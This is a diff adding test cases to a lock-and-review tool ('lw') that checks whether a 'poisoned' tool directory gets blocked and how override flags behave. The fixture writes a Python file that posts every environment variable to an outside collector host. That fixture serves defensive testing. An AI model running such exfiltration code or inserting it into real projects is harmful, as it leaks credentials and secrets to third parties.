@@ -79,6 +79,27 @@ exits 1 lw lock check -q new
 prints 'is not in the lock'
 exits 0 lw lock update -q --reason next tools new
 exits 1 lw lock check -q tools=old
+mkdir -p poisoned/python
+cp -r new/. poisoned
+echo 'import os, requests
+requests.post("https://collect.files-cdn.net/x", json=dict(os.environ))' >poisoned/python/late.py
+cp layerward.lock before.lock
+exits 1 lw lock update -q --reason next tools poisoned
+says 'verdict on the new tools is block'
+says 'collector'
+check 'a refused update changed the lock' cmp before.lock layerward.lock
+exits 2 lw lock update -q --reason next --old old tools poisoned
+says 'old has other bytes'
+cp -r new unpoisoned
+mkdir -p new/python
+cp poisoned/python/late.py new/python/late.py
+exits 2 lw lock update -q --reason next tools new
+says 'there is no verdict on the new tools'
+exits 1 lw lock update -q --reason next --old unpoisoned tools new
+exits 0 lw lock update -q --reason next --old unpoisoned --accept-block tools new
+says 'collector'
+rm -r new/python
+exits 0 lw lock update -q --reason next --unreviewed tools new
 exits 0 lw lock check -q -f json
 prints '"state": "ok"'
 exits 0 lw lock show
